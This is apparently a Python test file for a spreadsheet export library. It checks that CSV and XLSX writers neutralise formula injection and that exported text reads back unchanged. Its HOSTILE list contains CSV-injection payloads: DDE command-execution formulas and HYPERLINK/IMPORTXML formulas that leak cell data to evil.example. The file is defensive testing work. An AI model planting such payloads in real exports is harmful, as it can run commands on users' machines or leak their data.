"""Nothing that we write is run by a spreadsheet, and our own reading gives back what was written."""

from __future__ import annotations

import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from konveyer.adapters.tables import Written, guess, neutral, rows, write_csv, write_xlsx

pytestmark = pytest.mark.shows("I2.import", "F26")

MORNING = datetime(2024, 5, 6, 10, 30)  # noqa: DTZ001  # a spreadsheet knows no zones
HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=IMPORTXML(CONCAT(\"http://evil.example\"),\"//a\")",
    '=DDE("cmd","/C calc","x")',
    "+1+1",
    "+7 342 200-41-17",
    "+73422004117",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "- просто тире",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@roman",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''",
    "'s-Hertogenbosch",
    '";=1+1;"',
    "обычный текст",
    "a\nb",
    'говорит "да"',
    "",
]  # fmt: skip


def test_dangerous_beginnings_get_an_apostrophe() -> None:
    for text in HOSTILE:
        assert neutral(text)[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "＝")
        assert neutral(text).removeprefix("'") == text or neutral(text) == text


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1251"])
def test_csv_round_trip_of_hostile_texts(tmp_path: Path, delimiter: str, encoding: str) -> None:
    texts = [text for text in HOSTILE if encoding != "cp1251" or "＝" not in text]
    path = tmp_path / "out.csv"
    written = write_csv(
        path, ["=name", "Телефон"], ([text, "x"] for text in texts), delimiter=delimiter, encoding=encoding
    )
    assert written == Written(len(texts), 0)
    reading = guess(path)
    assert (reading.columns, reading.marked, reading.delimiter) == (("=name", "Телефон"), True, delimiter)
    found = list(rows(path, reading))
    assert [row.values[0] for row in found] == texts
    assert {row.damage for row in found} == {None}


def test_csv_without_the_mark(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(path, ["a", "b"], [["=1", "'x"], ["+7", "y"]], encoding="utf-8", mark=False)
    assert path.read_bytes() == b"a;b\r\n'=1;'x\r\n'+7;y\r\n"
    assert [row.values for row in rows(path, guess(path))] == [("'=1", "'x"), ("'+7", "y")]


def test_csv_values_of_each_kind(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    row = [1, Decimal("-1200.50"), date(2024, 5, 6), MORNING, True, None]
    write_csv(path, list("abcdef"), [row], encoding="utf-8", decimal_comma=True, mark=False)
    assert path.read_bytes() == b"a;b;c;d;e;f\r\n1;-1200,50;2024-05-06;2024-05-06 10:30;true;\r\n"


def test_letters_that_the_encoding_lacks(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(path, ["name", "x"], [["Wałęsa", "Роман"]], encoding="cp1251")
    assert next(rows(path, guess(path))).values == ("Wa??sa", "Роман")


def test_xlsx_round_trip_of_hostile_texts(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    texts = [*HOSTILE, "_x0041_", "_x000D_", " ", "\n", "\t \t", "a\r\nb", "<b>&amp;</b>"]
    write_xlsx(path, ["=name", "n"], ([text, "1"] for text in texts), sheet="Лиды/май")
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    reading = guess(path)
    assert (reading.columns, reading.sheet) == (("=name", "n"), "Лиды май")
    assert [row.values[0] for row in rows(path, reading)] == texts


def test_xlsx_keeps_types_and_replaces_what_xml_cannot_hold(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    row = [1, Decimal("1200.5"), date(2024, 5, 6), MORNING, None, "a\0\x07\ud800b"]
    write_xlsx(path, list("abcdef"), [row])
    assert next(rows(path, guess(path, header_line=1))).values == (
        "1",
        "1200.5",
        "2024-05-06",
        "2024-05-06 10:30",
        "",
        "a\ufffd\ufffd\ufffdb",
    )


def test_xlsx_cuts_what_no_spreadsheet_holds_and_says_so(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    assert write_xlsx(path, ["a"], [["x" * 40_000], ["short"]]) == Written(2, 1)
    found = list(rows(path, guess(path)))
    assert found[0].values == ("x" * 32_766 + "…",)


def test_nothing_to_write(tmp_path: Path) -> None:
    assert write_xlsx(tmp_path / "out.xlsx", ["a"], []) == Written(0, 0)
    assert write_csv(tmp_path / "out.csv", ["a"], []) == Written(0, 0)
    assert (tmp_path / "out.csv").read_text(encoding="utf-8-sig") == "a;konveyer/1\n"
